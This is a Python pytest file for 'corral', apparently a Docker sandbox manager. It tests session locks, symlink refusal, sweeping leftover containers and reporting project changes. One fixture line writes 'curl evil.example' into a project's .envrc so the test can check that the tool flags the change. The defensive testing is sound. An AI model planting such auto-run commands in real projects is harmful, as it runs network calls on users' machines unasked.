"""Sessions whose corral went away."""

from __future__ import annotations

import io
import os
import signal
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from corral import attended, down, engine, leftovers, protect, relay, sessions, units
from corral.context import Invocation
from corral.looking import Entry, Look
from corral.sessions import Note, Session
from tests.unit.corral.fakes import FakeDocker, FakeEnforcer

from .test_sessions import one


def test_a_lock_is_seen_and_goes_with_the_process_that_was_killed(tmp_path: Path) -> None:
    assert attended.attended(tmp_path) is None
    script = (
        "import sys, time, pathlib; from corral.attended import Attendance; a = Attendance();"
        "a.begin(pathlib.Path(sys.argv[1])); print('has it', flush=True); time.sleep(60)"
    )
    with subprocess.Popen([sys.executable, "-c", script, tmp_path], stdout=subprocess.PIPE) as other:
        assert other.stdout is not None and other.stdout.readline() == b"has it\n"
        assert attended.attended(tmp_path) is True
        with attended.attendance() as ours:
            assert not ours.take(tmp_path) and not ours.held
        other.send_signal(signal.SIGKILL)
    assert attended.attended(tmp_path) is False
    with attended.attendance() as ours:
        assert ours.take(tmp_path) and ours.held
        assert attended.attended(tmp_path) is True
    assert attended.attended(tmp_path) is False


def test_a_link_in_its_place_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").touch()
    (tmp_path / attended.FILE).symlink_to(tmp_path / "elsewhere")
    assert attended.attended(tmp_path) is None
    with attended.attendance() as ours:
        assert not ours.take(tmp_path)


@pytest.mark.parametrize(
    ("state", "held", "purpose", "keep", "left", "leftover"),
    [
        ("running", False, "run", False, True, False),
        ("running", True, "run", False, False, False),
        ("running", None, "run", False, False, False),
        ("running", False, "daemon", False, False, False),
        ("paused", False, "run", False, True, False),
        ("restarting", False, "shell", False, True, False),
        ("exited", False, "run", False, False, True),
        ("exited", False, "shell", False, False, True),
        ("exited", False, "verify", False, False, True),
        ("created", False, "run", False, False, True),
        ("created", True, "run", False, False, False),
        ("exited", True, "run", False, False, False),
        ("exited", None, "run", False, False, False),
        ("exited", False, "run", True, False, False),
        ("exited", False, "daemon", False, False, False),
        ("removing", False, "run", False, False, False),
    ],
)
def test_what_runs_is_no_leftover_and_what_is_not_known_neither(
    state: str, held: bool | None, purpose: str, keep: bool, left: bool, leftover: bool
) -> None:
    found = replace(one("aaaaaaaa", state=state, purpose=purpose), attended=held, note=Note(keep=keep))
    assert (found.left, found.leftover) == (left, leftover)
    assert ("running, left" in sessions.render([found], 0)) == (left and state == "running")
    assert sessions.as_json([found])[0]["attended"] == (None if purpose == "daemon" else held)


# 2026-01-31T10:00:00Z
START = 1769853600.0


class Left:
    """Sessions of a sandbox in Docker and on disk, with nobody to look after them."""

    def __init__(self, invocation: Invocation, docker: FakeDocker) -> None:
        self.invocation, self.docker = invocation, docker

    def make(self, session: str, state: str = "exited", keep: bool = False) -> Path:
        loaded, paths = self.invocation.loaded, self.invocation.paths
        directory = paths.session(session)
        directory.mkdir(parents=True)
        with attended.attendance() as ours:
            ours.begin(directory)
        sessions.write_note(paths, session, Note("", "p", "i", keep))
        labels = {
            "io.corral.sandbox": loaded.sandbox.id,
            "io.corral.session": session,
            "io.corral.uid": str(self.invocation.user.uid),
            "io.corral.purpose": "run",
            "io.corral.service": "main",
            "io.corral.project": str(loaded.project),
        }
        self.docker.containers_by_id[session * 8] = {
            "Id": session * 8,
            "Names": [f"/corral-{session}"],
            "State": state,
            "Status": "Exited (3) 1 minute ago" if state == "exited" else state,
            "Labels": labels,
            "NetworkSettings": {"Networks": {}},
        }
        return directory

    def all(self) -> list[Session]:
        return sessions.all_of(self.docker, self.invocation.user.uid, self.invocation.data)  # type: ignore[arg-type]

    def sweep(self) -> list[str]:
        return leftovers.sweep(self.invocation, self.all())


@pytest.fixture
def left(invocation: Invocation, docker_engine: FakeDocker) -> Left:
    return Left(invocation, docker_engine)


def test_the_next_start_removes_what_has_ended_and_nothing_else(
    left: Left, said: io.StringIO, enforcer: FakeEnforcer
) -> None:
    gone = left.make("aaaaaaaa"), left.make("bbbbbbbb", "created")
    stay = left.make("cccccccc", "running"), left.make("dddddddd", keep=True), left.make("eeeeeeee")
    # Its container is gone already; nobody has it.
    orphan = left.make("ffffffff")
    del left.docker.containers_by_id["ffffffff" * 8]
    # One that is being made has its lock and no container; an older corral's has no lock.
    young, old = left.make("01234567"), left.make("12345678")
    del left.docker.containers_by_id["01234567" * 8], left.docker.containers_by_id["12345678" * 8]
    (old / attended.FILE).unlink()
    with attended.attendance() as ours, attended.attendance() as other:
        assert ours.take(stay[2]) and other.take(young)
        assert sorted(left.sweep()) == ["aaaaaaaa", "bbbbbbbb", "ffffffff"]
    assert not any(path.exists() for path in (*gone, orphan))
    assert all(path.exists() for path in (*stay, young, old))
    assert sorted(left.docker.containers_by_id) == [text * 8 for text in ("cccccccc", "dddddddd", "eeeeeeee")]
    assert enforcer.withdrawn == ["aaaaaaaa" * 8, "bbbbbbbb" * 8]
    assert "aaaaaaaa ended with exit code 3 and nobody looked after it: removed" in said.getvalue()
    assert "bbbbbbbb did not start" in said.getvalue()


def test_one_that_docker_does_not_let_go_is_told_and_stands_in_nobody_s_way(
    left: Left, said: io.StringIO
) -> None:
    from tests.unit.corral.fakes import refusal

    directory = left.make("aaaaaaaa")
    left.docker.fail["remove"] = refusal(500, "device or resource busy")
    assert left.sweep() == []
    assert "device or resource busy" in said.getvalue()
    assert directory.exists()


def test_what_was_seen_before_comes_back_from_disk_as_it_was() -> None:
    look = Look(
        {"/a": None, "/b\udcff": Entry(0o100644, 3, "d1", b"\x00\xff\n", (1, 2, 3)), "/c": Entry(0o40755)},
        {"/d": "too deep"},
        {"/b\udcff"},
    )
    import json

    again = Look.of(json.loads(json.dumps(look.body())))
    assert (again.found, again.cut, again.configs) == (look.found, look.cut, look.configs)


@pytest.mark.parametrize("ends", ["sweep", "finish", "down", "kept"])
def test_what_a_session_did_that_was_left_is_told_by_who_finds_it_ended(
    left: Left, project: Path, said: io.StringIO, monkeypatch: pytest.MonkeyPatch, ends: str
) -> None:
    invocation = left.invocation
    directory = left.make("aaaaaaaa", keep=ends == "kept")
    protect.watch(invocation.loaded, invocation.paths, "aaaaaaaa", invocation.user.environ).save()
    (project / ".envrc").write_text("curl evil.example\n")
    (found,) = left.all()
    if ends == "sweep":
        left.sweep()
    elif ends == "down":
        monkeypatch.setattr(units.Manager, "file", lambda *_: project / "missing")
        monkeypatch.setattr(relay.Manager, "stop_all", lambda *_: 0)
        monkeypatch.setattr(down.network, "remove", lambda *_: None)
        down.down(invocation)
    else:
        leftovers.finish(invocation, found)
    assert f"{project}/.envrc: new" in said.getvalue()
    assert "corral revert aaaaaaaa" in said.getvalue()
    assert directory.exists() == (ends == "kept")
    assert bool(left.docker.containers_by_id) == (ends == "kept")
    # Once.
    told = said.getvalue()
    leftovers.tell(invocation, invocation.paths, "aaaaaaaa")
    assert said.getvalue() == told


def test_a_record_that_somebody_damaged_is_said_to_say_nothing(left: Left, said: io.StringIO) -> None:
    directory = left.make("aaaaaaaa")
    (directory / protect.BEFORE).write_text('{"places": 1}')
    left.sweep()
    assert "could not be found out" in said.getvalue()
    assert not directory.exists()


@pytest.mark.parametrize(
    ("finished", "restarted"),
    [
        ("2026-01-31T09:59:40.123456789Z", True),
        ("2026-01-31T10:00:00Z", True),
        ("2026-01-31T09:50:00.5Z", False),
        ("2026-01-31T10:00:05.5Z", False),
        ("0001-01-01T00:00:00Z", False),
        ("soon", False),
    ],
)
def test_one_that_ended_with_its_engine_is_told_so(
    left: Left,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    said: io.StringIO,
    finished: str,
    restarted: bool,
) -> None:
    left.make("aaaaaaaa")
    (tmp_path / engine.PIDFILE).touch()
    os.utime(tmp_path / engine.PIDFILE, (START, START))
    monkeypatch.setattr(leftovers, "base_url", lambda _: f"unix://{tmp_path}/docker.sock")
    monkeypatch.setattr(left.docker, "inspect_container", lambda _: {"State": {"FinishedAt": finished}})
    left.sweep()
    assert ("ended with exit code 3 when Docker was restarted" in said.getvalue()) == restarted
    assert "aaaaaaaa ended with exit code 3" in said.getvalue()
